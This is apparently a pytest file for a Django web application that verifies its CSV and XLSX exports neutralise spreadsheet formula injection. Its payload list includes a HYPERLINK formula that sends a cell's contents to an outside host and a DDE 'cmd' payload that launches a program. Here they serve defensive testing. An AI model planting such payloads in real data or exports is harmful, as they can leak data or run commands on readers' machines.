"""No CSV or XLSX export can carry a live formula (CSV injection, OWASP).

Known payloads are put into every free text that flows into an export
(indicator names and units, forum names, organisation names) and every
export is read back: the CSV with the csv module, the XLSX with openpyxl.
No cell may be a formula, no text cell may begin with a character that
starts a formula, and ordinary text and numbers come out unchanged.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import time_machine
from django.core.management import call_command
from openpyxl import Workbook, load_workbook

from samverkan.collaboration.models import (
    Forum,
    ForumKind,
    Indicator,
    IndicatorKind,
    IndicatorValue,
)
from samverkan.core.exports import append_xlsx_row, csv_bytes, is_dangerous, neutralise
from samverkan.followup.tests import dataset
from samverkan.registry.models import Organisation

PAYLOADS = [
    '=HYPERLINK("http://x?leak="&C5,"öppna")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
]
PERIOD = "?period=year&datum=2026-06-01"
NUMBER = re.compile(r"-?\d+([.,]\d+)?")


def test_neutralise_text_only() -> None:
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
    for text in ("Upplevd trygghet", "<5", "–", "", "50 %", "Hela länet", "−3 min"):
        assert neutralise(text) == text
    # Numbers stay numbers, negative ones too; text that looks like a number is a label.
    for number in (-5, 0, 3.5, -2.25, Decimal("-1.5"), True):
        assert neutralise(number) == number
    assert neutralise("-5") == "'-5"
    assert neutralise(" =1+1") == "' =1+1"  # leading whitespace does not hide it
    assert neutralise("＝1+1") == "'＝1+1"  # full-width equals sign
    assert neutralise(None) is None
    assert neutralise(date(2026, 1, 1)) == date(2026, 1, 1)


def test_csv_bytes_round_trip() -> None:
    body = csv_bytes([["namn", "värde"], *([p, -3] for p in PAYLOADS), ["Vanlig", 1.5]])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert [r[0] for r in rows[1:-1]] == ["'" + p for p in PAYLOADS]
    assert rows[1][1] == "-3" and rows[-1] == ["Vanlig", "1,5"]


def test_xlsx_drops_control_characters_instead_of_failing() -> None:
    workbook = Workbook()
    sheet = workbook.active
    append_xlsx_row(sheet, ["Trygg\x01het\x1b", "=1+1", 7])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = [c.value for c in load_workbook(io.BytesIO(buffer.getvalue())).active[1]]
    assert cells == ["Trygghet", "'=1+1", 7]


@pytest.fixture
def poisoned(registry_demo: dict[str, Any], hub_worker: Any) -> dict[str, Any]:
    """The data set, with a payload in every free text an export carries."""
    reports = dataset.build(registry_demo, hub_worker)
    farsta = registry_demo["0180-farsta"]
    forum = Forum.objects.create(
        district=farsta,
        name=PAYLOADS[0],
        kind=ForumKind.GENERAL_QUESTIONS,
        required_per_term=2,
        required_functions=["social_worker"],
    )
    for index, payload in enumerate(PAYLOADS):
        indicator = Indicator.objects.create(
            district=farsta,
            name=payload,
            kind=IndicatorKind.MANUAL,
            forum=forum,
            unit=PAYLOADS[-1][:20] if index == 0 else "",
        )
        IndicatorValue.objects.create(
            indicator=indicator, term="2026-VT", value=Decimal("50"), source="=1+1"
        )
    ordinary = Indicator.objects.create(
        district=farsta, name="Upplevd trygghet", kind=IndicatorKind.MANUAL, forum=forum, unit="%"
    )
    IndicatorValue.objects.create(
        indicator=ordinary, term="2026-VT", value=Decimal("50"), source="Trygghetsmätning"
    )
    # Organisation names flow into row labels, scope labels and open data.
    for code, payload in (("0182", "=1+1"), ("0184", "@SUM(1)"), ("1480", "-1+1")):
        Organisation.objects.filter(code=code).update(name=payload)
    farsta_name = "+1+1"
    Organisation.objects.filter(pk=farsta.pk).update(name=farsta_name)
    return {"reports": reports}


def xml_text(text: str) -> str:
    """What an XLSX gives back: XML turns a carriage return into a line feed."""
    return text.replace("\r", "\n")


def assert_inert_csv(body: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows
    for row in rows:
        for value in row:
            assert NUMBER.fullmatch(value) or not is_dangerous(value), (value, row)
    return rows


def assert_inert_xlsx(body: bytes) -> list[Any]:
    workbook = load_workbook(io.BytesIO(body))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not is_dangerous(cell.value), (sheet.title, cell.value)
                values.append(cell.value)
    return values


def test_every_followup_download_is_inert(
    logged_in_client: Any, analyst: Any, poisoned: dict[str, Any]
) -> None:
    client = logged_in_client(analyst)
    seen_csv: list[str] = []
    seen_xlsx: list[Any] = []
    for board in ("en-ingang", "avhoppare", "samverkan"):
        for query in (PERIOD, "?period=month&datum=2026-12-01"):
            response = client.get(f"/uppfoljning/{board}/export.csv{query}")
            assert response.status_code == 200
            seen_csv += [v for r in assert_inert_csv(response.content) for v in r]
            response = client.get(f"/uppfoljning/{board}/export.xlsx{query}")
            assert response.status_code == 200
            seen_xlsx += assert_inert_xlsx(response.content)
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/uppfoljning/samverkan/tabell/indicators.{fmt}{PERIOD}")
        assert response.status_code == 200
        if fmt == "csv":
            seen_csv += [v for r in assert_inert_csv(response.content) for v in r]
        else:
            seen_xlsx += assert_inert_xlsx(response.content)
    # The payloads are there, as text, and ordinary text and numbers are unchanged.
    for payload in PAYLOADS:
        assert "'" + payload in seen_csv
        assert "'" + xml_text(payload) in seen_xlsx
    assert "Upplevd trygghet (%)" in seen_csv and "Upplevd trygghet (%)" in seen_xlsx
    assert "50,0" in seen_csv and 50 in seen_xlsx  # a real number, with a decimal comma
    assert "Trygghetsmätning" not in seen_csv  # sources are not exported


def test_open_data_csv_is_inert(client: Any, poisoned: dict[str, Any]) -> None:
    with time_machine.travel(dataset.NOW, tick=False):
        body = client.get("/uppfoljning/oppen/statistik.csv").content
    rows = assert_inert_csv(body)
    names = {row[4] for row in rows[1:]}
    assert {"'=1+1", "'@SUM(1)", "'-1+1"} <= names
    assert "Stockholms län" in {row[2] for row in rows[1:]}


def test_export_command_is_inert(poisoned: dict[str, Any], tmp_path: Path) -> None:
    for fmt in ("csv", "xlsx"):
        target = tmp_path / f"u.{fmt}"
        call_command(
            "followup_export", "--from", "2026-01-01", "--to", "2026-12-31",
            "--format", fmt, "--output", str(target),
        )  # fmt: skip
        if fmt == "csv":
            values = [v for r in assert_inert_csv(target.read_bytes()) for v in r]
        else:
            values = assert_inert_xlsx(target.read_bytes())
        for payload in PAYLOADS:
            expected = payload if fmt == "csv" else xml_text(payload)
            assert "'" + expected in values, (fmt, payload)
